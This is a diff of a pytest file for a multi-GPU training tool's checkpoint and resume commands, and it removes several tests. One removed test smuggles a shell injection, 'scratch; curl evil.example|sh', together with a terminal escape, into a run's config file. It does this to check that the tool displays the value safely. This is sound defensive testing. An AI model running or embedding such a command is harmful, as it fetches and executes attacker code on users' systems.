@@ -14,7 +14,6 @@ from slow import slow
 from trainers import trainable
 
 from gluon_mgpu import concise, scratch
-from gluon_mgpu.base.text import printable
 from gluon_mgpu.checkpoints import checkpoint, checkpoint_callback as callback
 from gluon_mgpu.checkpoints.checkpoint_callback import CheckpointCallback
 from gluon_mgpu.checkpoints.run_folder import checkpoints, lock_folder
@@ -195,16 +194,6 @@ def test_lenet_on_another_number_of_devices(before, after, device_list, data, tm
     assert [e for e, *_ in resumed] == [e for e, *_ in history]
 
 
-@pytest.mark.slow
-def test_resnet_on_another_number_of_devices_reports_averaged_statistics(device_list, data, tmp_path, keep_all,
-                                                                         capsys):
-    train(concise, device_list(2), data, tmp_path / 'two', num_epochs=1)
-    train(concise, device_list(1), data, tmp_path / 'one', num_epochs=1,
-          resume=checkpoint_after(3, tmp_path / 'two'))
-    assert re.search(r'\d+ arrays, such as \S+running_\S+, differed between the 2 devices of the checkpoint; '
-                     'each device now has their mean', capsys.readouterr().err)
-
-
 class Program:
     """A chapter's command line on few rows; a call returns (status, stdout, stderr)."""
 
@@ -322,15 +311,6 @@ def test_an_earlier_checkpoint_is_used_only_if_no_newer_one_would_be_lost(progra
     assert newer.exists()
 
 
-def test_a_run_without_a_checkpoint_starts_again(program):
-    program.start('--num-epochs', 1)
-    for path in checkpoints(program.out):
-        path.unlink()
-    status, out, _ = program.start('--num-epochs', 1, '--resume', 'auto')
-    assert status == 0 and 'epoch 1/1' in out
-    assert f'{program.out} has no checkpoint yet: starting anew' in out
-
-
 def contents(folder):
     return {path: path.read_bytes() for path in folder.iterdir()}
 
@@ -395,17 +375,6 @@ def test_switches_can_be_switched_off(program):
         'allreduce': ['ring', None]}
 
 
-def test_a_run_that_has_ended_says_what_would_continue_it(program, monkeypatch):
-    monkeypatch.setattr(scratch, 'evaluate_accuracy_gpus', lambda *args, **options: 0.5)
-    program.start('--num-epochs', 2)
-    line = 'checkpoint-00000008.safetensors, the end of the run: to train longer, give a larger --num-epochs or '
-    assert line in program('--resume', program.out)[1]
-    out = program('--resume', program.out, '--num-epochs', 4, '--patience', 1)[1]
-    assert line in out and 'epoch 3/4' not in out
-    out = program('--resume', program.out, '--patience', 2)[1]
-    assert line not in out and 'epoch 3/4' in out and 'epoch 4/4' not in out
-
-
 def test_sizes_that_mean_the_same_images(program):
     """``config.json`` has the number of training images, also if it was not given."""
     program.start('--num-epochs', 1)
@@ -465,15 +434,6 @@ def test_an_edited_configuration_is_rejected(change, program):
         assert len(program.capsys.readouterr().err.splitlines()) == 1
 
 
-def test_resume_auto_after_a_full_disk(program, full_disk):
-    """The run could not write its config.json; with free space, the same command starts it."""
-    with full_disk():
-        status, _, err = program.start('--num-epochs', 1, '--resume', 'auto')
-    assert status == 2 and 'No space left on device' in err
-    assert program.start('--num-epochs', 1, '--resume', 'auto')[0] == 0
-    assert program.config()['num_epochs'] == 1
-
-
 @pytest.mark.parametrize('change', [
     {'seed': 1}, {'batch_size': 32}, {'dataset': 'glyphs'}, {'validation_size': 8}, {'run_id': 'x'},
     {'test_digest': None, 'test_size': 8}, {'train_digest': None, 'train_size': 48}])
@@ -524,15 +484,6 @@ def test_predict_and_export_refuse_forged_checkpoints(program):
         path.write_bytes(before)
 
 
-def test_a_chapter_that_is_not_known_is_not_printed_as_a_command(program):
-    program.start('--num-epochs', 1)
-    evil = 'scratch; curl evil.example|sh #\x1b]0;x\x07'
-    (program.out / 'config.json').write_text(json.dumps({**program.config(), 'chapter': evil}))
-    forge(checkpoints(program.out)[0], chapter=evil)
-    line = error_of(program, '--resume', program.out)
-    assert line == f'scratch: {program.out} is a run of {printable(evil)}, not of scratch: resume it with that program'
-
-
 def test_control_characters_in_the_files_of_a_run(program, tmp_path):
     """From config.json and names of folders, in messages and among the changes."""
     program.out = tmp_path / 'a\x1b[31mb'
@@ -550,12 +501,3 @@ def test_control_characters_in_the_files_of_a_run(program, tmp_path):
     assert not re.search('[\x00-\x09\x0b-\x1f\x7f-\x9f]', text)
     for name in (r'a\x1b[31mb', r'\x1b]0;title\x07 ', r'\x9b31m', r'\x1b[2J'):
         assert name.strip() in text, name
-
-
-def test_a_private_run_stays_private(program):
-    program.start('--num-epochs', 1)
-    for path in program.out.iterdir():
-        path.chmod(0o600)
-    assert program('--resume', program.out, '--num-epochs', 2)[0] == 0
-    for name in ('config.json', 'history.csv'):
-        assert (program.out / name).stat().st_mode & 0o777 == 0o600
